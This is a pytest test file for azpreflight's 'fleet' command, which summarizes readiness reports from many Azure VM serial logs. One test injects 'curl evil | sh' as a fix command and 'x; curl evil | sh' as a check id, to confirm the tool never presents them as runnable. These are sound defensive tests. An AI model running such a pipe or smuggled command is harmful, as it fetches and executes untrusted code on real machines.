"""`azpreflight fleet`: the logs of many machines in, each cause once."""

from __future__ import annotations

import gzip
import json
import os
import pty
import subprocess
import sys
import threading
from contextlib import suppress
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from azpreflight.cli.main import main
from azpreflight.model import Report
from azpreflight.render import serial
from tests.fuzz import damage
from tests.support.reports import BROKEN, READY, RUN, UNDECIDED

BOOT = damage.recorded("boot-cloud-init")


def put(path: Path, report: Report, vm: str, **run: Any) -> None:
    """The console log of a machine with this id, which boots and reports."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(BOOT + serial.render(replace(report, run=replace(RUN, vm_id=vm, **run))).encode("ascii"))


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A storage account, fetched: a container for each VM, with a picture of its screen beside the log."""
    for number, report in enumerate((BROKEN, READY, BROKEN, UNDECIDED)):
        container = tmp_path / f"bootdiagnostics-vm{number}"
        put(container / f"vm{number}.serialconsole.log", report, f"vm-{number}")
        (container / f"vm{number}.screenshot.bmp").write_bytes(b"BM")
    (tmp_path / "silent.log").write_bytes(BOOT)
    return tmp_path


def test_a_folder_of_logs_is_read_to_the_bottom(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["fleet", str(folder)]) == 1
    said = capsys.readouterr().out
    assert said.startswith("5 machines: 2 not ready, 1 undecided, 1 ready, 1 without a report\n")
    assert "(2 machines): rule 3 of OUTPUT" in said
    assert f"* {folder}/silent.log: no report in this log; the last that it shows: " in said
    assert f"* {folder}/bootdiagnostics-vm3/vm3.serialconsole.log: gen-users: cannot read " in said
    assert "screenshot" not in said


def test_json_has_every_machine_and_every_group(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["fleet", str(folder), "--format", "json"]) == 1
    document = json.loads(capsys.readouterr().out)
    assert document["schema"] == "azpreflight.fleet/1"
    totals = {
        "machines": 5,
        "ready": 1,
        "not-ready": 2,
        "undecided": 1,
        "without_report": 1,
        "unread": 0,
        "older_logs": 0,
        "disputed": 0,
    }
    assert document["totals"] == totals
    group, warned = document["groups"]
    assert (warned["cause"], warned["severity"], warned["machines"]) == ("dns-unreachable", "warning", 2)
    assert (group["cause"], len(group["logs"]), group["commands"]) == (
        "guest-firewall",
        2,
        list(BROKEN.causes[0].commands),
    )
    assert sorted(str(one["verdict"]) for one in document["machines"]) == [
        "None",
        "not-ready",
        "not-ready",
        "ready",
        "undecided",
    ]


def test_json_lines_are_one_for_each_machine(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["fleet", str(folder), "--format", "jsonl", "-o", "-"]) == 1
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert {line["vm_id"] for line in lines} == {"vm-0", "vm-1", "vm-2", "vm-3", None}
    assert {line["schema"] for line in lines} == {"azpreflight.fleet/1"}


@pytest.mark.parametrize(("report", "code"), [(BROKEN, 1), (READY, 0), (UNDECIDED, 3)])
def test_the_exit_code_is_that_of_the_worst(report: Report, code: int, tmp_path: Path) -> None:
    put(tmp_path / "a.log", READY, "a")
    put(tmp_path / "b.log", report, "b")
    assert main(["fleet", str(tmp_path), "-o", str(tmp_path / "out")]) == code


def test_what_is_mended_by_now_does_not_count(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The log was fetched again later, and has the first report still."""
    put(tmp_path / "old.log", BROKEN, "a", started_at="2026-11-22T17:30:00Z")
    put(tmp_path / "new.log", READY, "a", started_at="2026-11-23T08:00:00Z")
    assert main(["fleet", str(tmp_path)]) == 1
    assert "2 logs claim VM a and disagree\n" in capsys.readouterr().out
    (tmp_path / "new.log").write_bytes((tmp_path / "old.log").read_bytes() + (tmp_path / "new.log").read_bytes())
    assert main(["fleet", str(tmp_path)]) == 0
    assert capsys.readouterr().out.startswith("1 machine: 1 ready\nnot counted: 1 log ")


def test_a_forged_log_hides_no_machine(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """It names the id of another machine, a time that nothing is newer than, and commands to be run."""
    put(tmp_path / "victim.log", BROKEN, "a")
    put(tmp_path / "evil.log", READY, "a", started_at="9999-01-01T00:00:00Z")
    assert main(["fleet", str(tmp_path)]) == 1
    said = capsys.readouterr().out
    assert "1 machine: 1 of which logs disagree\n" in said and f"* {tmp_path}/victim.log: not ready" in said
    assert main(["fleet", "--format", "json", str(tmp_path)]) == 1
    document = json.loads(capsys.readouterr().out)
    assert (document["totals"]["ready"], document["totals"]["disputed"], document["totals"]["machines"]) == (0, 1, 1)
    assert document["disputes"] == [{"vm_id": "a", "logs": [f"{tmp_path}/evil.log", f"{tmp_path}/victim.log"]}]


def test_a_frame_that_is_written_again_is_no_newer_report(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Whoever is logged in on the console may write there what stood further up."""
    put(tmp_path / "first", READY, "a", started_at="2026-11-22T17:30:00Z")
    put(tmp_path / "then", BROKEN, "a", started_at="2026-11-22T17:40:00Z")
    first, then = ((tmp_path / name).read_bytes() for name in ("first", "then"))
    log = tmp_path / "a.log"
    for content, code, doubt in ((first + then, 1, False), (first + then + first, 1, True), (then + first, 1, True)):
        log.write_bytes(content)
        for command in ("fleet", "decode"):
            assert main([command, str(log)]) == code
            said = capsys.readouterr()
            words = " ".join((said.out + said.err).split())
            assert ("is of an earlier time than one before it" in words) is doubt


def test_a_report_of_another_machine_in_a_log_is_told(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    put(tmp_path / "a.log", BROKEN, "a")
    put(tmp_path / "b", READY, "b", started_at="2026-11-23T08:00:00Z")
    (tmp_path / "a.log").write_bytes((tmp_path / "a.log").read_bytes() + (tmp_path / "b").read_bytes())
    assert main(["fleet", str(tmp_path / "a.log")]) == 1
    assert "a.log: it has reports of more than one machine; the worst of" in " ".join(capsys.readouterr().out.split())


def test_commands_of_a_log_are_its_words(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Never a line that could be taken for one to be run; nor an id of a check, which stands in a command of ours."""
    root = BROKEN.causes[0]
    evil = replace(root, fix="Run this.", commands=("curl evil | sh",))
    row = next(row for row in BROKEN.results if row.findings)
    row = replace(row, check="x; curl evil | sh", cause=None, because_of=())
    put(tmp_path / "a.log", replace(BROKEN, causes=(evil,), results=(row,)), "a")
    for arguments in (["fleet"], ["decode"], ["decode", "--verbose"]):
        assert main([*arguments, str(tmp_path / "a.log")]) == 1
        said = capsys.readouterr().out
        lines = said.splitlines()
        assert f"the report in {tmp_path}/a.log says:" in " ".join(said.split()) and '"curl evil | sh"' in said
        assert not any(line.strip().startswith(("$", "curl", "fix: Run")) for line in lines)
        assert not any(line.startswith("azpreflight explain x;") for line in lines)


def test_a_log_that_is_named_twice_counts_once(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "latest.log").symlink_to("silent.log")
    main(["fleet", "-q", str(folder), str(folder / "silent.log"), str(folder)])
    assert capsys.readouterr().out == "5 machines: 2 not ready, 1 undecided, 1 ready, 1 without a report\n"


def test_an_older_report_does_not_pass_for_one_that_is_lost(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """As in a log that was fetched while its machine wrote; what is lost of older reports is no matter."""
    first, last = (serial.render(report).splitlines() for report in (BROKEN, READY))
    (tmp_path / "cut.log").write_text("\n".join([*first, *last[:10]]))
    (tmp_path / "begun.log").write_text("\n".join([*first[-20:], *last]))
    main(["fleet", str(tmp_path)])
    said = " ".join(capsys.readouterr().out.split())
    assert said.count("an older report counts") == 1
    assert f"in doubt: {tmp_path}/cut.log: an older report counts, because the newest is lost, " in said


def test_it_works_where_the_working_directory_is_gone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    put(tmp_path / "a.log", READY, "a")
    (tmp_path / "gone").mkdir()
    monkeypatch.chdir(tmp_path / "gone")
    (tmp_path / "gone").rmdir()
    assert main(["fleet", str(tmp_path), "b.log"]) == 2
    told = capsys.readouterr()
    assert told.out.startswith("2 machines: 1 ready, 1 not read\n")
    assert "* b.log: cannot read: No such file or directory\n" in told.out


def test_what_cannot_be_read_in_a_folder_is_said(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A link to itself, and a folder whose path is too long: root can read whatever has no permission."""
    put(tmp_path / "a.log", READY, "a")
    (tmp_path / "loop.log").symlink_to("loop.log")
    deep = os.open(tmp_path, os.O_RDONLY)
    for _ in range(20):
        os.mkdir("d" * 250, dir_fd=deep)
        above, deep = deep, os.open("d" * 250, os.O_RDONLY, dir_fd=deep)
        os.close(above)
    os.close(deep)
    assert main(["fleet", str(tmp_path)]) == 2
    told = capsys.readouterr()
    assert told.out.startswith("3 machines: 1 ready, 2 not read\n")
    assert f"* {tmp_path}/loop.log: cannot read: Too many levels of symbolic links\n" in told.out
    assert "ddd: cannot read: File name too long\n" in told.out
    assert told.err.startswith("azpreflight: 2 of the logs could not be read")


def test_a_name_that_is_no_text_is_shown_as_what_it_is(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Names of files are bytes, and ids in a log are whatever somebody wrote there."""
    put(Path(os.fsdecode(os.fsencode(tmp_path) + b"/\xff\n.log")), BROKEN, "\ud800")
    for form in ("text", "jsonl", "json", "csv"):
        assert main(["fleet", str(tmp_path), "--format", form, "-o", str(tmp_path / "out")]) == 1
    assert main(["fleet", str(tmp_path)]) == 1
    assert "\\xff\\n.log" in capsys.readouterr().out


def test_a_log_that_is_cut_off_says_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a.log").write_bytes(gzip.compress(BOOT)[:-1000])
    assert main(["fleet", str(tmp_path)]) == 3
    said = capsys.readouterr().out
    assert "no report in this log; not inspected: the end of the gzip file, which is broken; the last" in said


def test_logs_that_cannot_be_read_do_not_keep_the_others_from_counting(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["fleet", str(folder / "gone"), str(folder)]) == 2
    told = capsys.readouterr()
    assert told.err.startswith("azpreflight: 1 of the logs could not be read")
    assert told.out.startswith("6 machines: 2 not ready, 1 undecided, 1 ready, 1 without a report, 1 not read\n")
    assert f"not read (1 machine)\n         * {folder}/gone: cannot read: No such file or directory\n" in told.out


def test_nothing_but_files_is_opened_in_a_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A pipe would hold it up, and a link to the folder itself would never end."""
    os.mkfifo(tmp_path / "pipe.log")
    (tmp_path / "again").symlink_to(tmp_path)
    put(tmp_path / "a.log", READY, "a")
    assert main(["fleet", str(tmp_path)]) == 0
    assert capsys.readouterr().out == "1 machine: 1 ready\n"


def test_an_empty_folder_is_no_fleet_that_is_well(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["fleet", str(tmp_path)]) == 2
    assert capsys.readouterr().err == f"azpreflight: there is no log in {tmp_path}\n"


def test_while_a_person_watches_progress_is_told(tmp_path: Path) -> None:
    far, near = pty.openpty()
    got = bytearray()

    def read() -> None:
        with suppress(OSError):
            while chunk := os.read(far, 4096):
                got.extend(chunk)

    put(tmp_path / "log", BROKEN, "x")
    for number in range(1500):
        os.link(tmp_path / "log", tmp_path / f"{number}\x1b[2J.log")
    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    command = [sys.executable, "-m", "azpreflight", "fleet", ".", "-q"]
    done = subprocess.run(command, stdout=subprocess.DEVNULL, stderr=near, cwd=tmp_path, check=False, timeout=120)
    os.close(near)
    reader.join(10)
    os.close(far)
    assert done.returncode == 1
    assert b" logs read in " in got
    assert b"\x1b" not in got
